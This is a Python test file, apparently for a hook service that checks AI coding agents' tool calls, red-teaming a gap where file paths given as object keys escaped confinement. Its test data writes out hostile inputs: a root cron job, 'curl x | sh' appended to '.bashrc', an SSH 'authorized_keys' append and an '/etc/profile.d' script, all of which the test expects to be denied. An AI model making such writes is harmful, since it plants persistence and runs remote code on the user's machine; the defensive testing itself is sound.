"""Red team (rtgit) of the loose path keys of unlisted client tools (`base.input_paths`):
an object under a loose key whose keys are paths (`{"files": {"/etc/cron.d/x": "..."}}`,
a map of paths to their content, as multi-file write tools take it) was allowed: its
values were read, its keys not. Real hook endpoint."""

from __future__ import annotations

import uuid
from typing import Any

import pytest

from tests.support import claude_code_hooks as claude
from tests.support.factories import make_agent

OUTSIDE: tuple[dict[str, Any], ...] = (
    {"files": {"/etc/cron.d/x": "* * * * * root sh /tmp/x"}},
    {"outputs": [{"../../home/dev/.bashrc": "curl x | sh"}]},
    {"target": {"main": {"~/.ssh/authorized_keys": {"mode": "append"}}}},
    {"dest": {"file:///etc/profile.d/x.sh": "x"}},
)
INSIDE: tuple[dict[str, Any], ...] = (
    {"files": {"src/a.py": "print()", "README.md": "# x"}},
    {"source": {"kind": "user", "text/plain": "hello"}},
)


@pytest.mark.django_db
def test_a_path_as_a_key_under_a_loose_key_is_confined() -> None:
    fx = make_agent(mode="trusted")
    session = str(uuid.uuid4())
    for n, tool_input in enumerate(OUTSIDE):
        body = claude.pre_tool_use(session, "Publish", tool_input, f"o{n}")
        verdict, reason = claude.decision(claude.send(fx, body))
        assert verdict == "deny", (tool_input, reason)
        assert "outside the project" in reason, (tool_input, reason)
    for n, tool_input in enumerate(INSIDE):
        body = claude.pre_tool_use(session, "Publish", tool_input, f"i{n}")
        verdict, reason = claude.decision(claude.send(fx, body))
        assert verdict == "allow", (tool_input, reason)
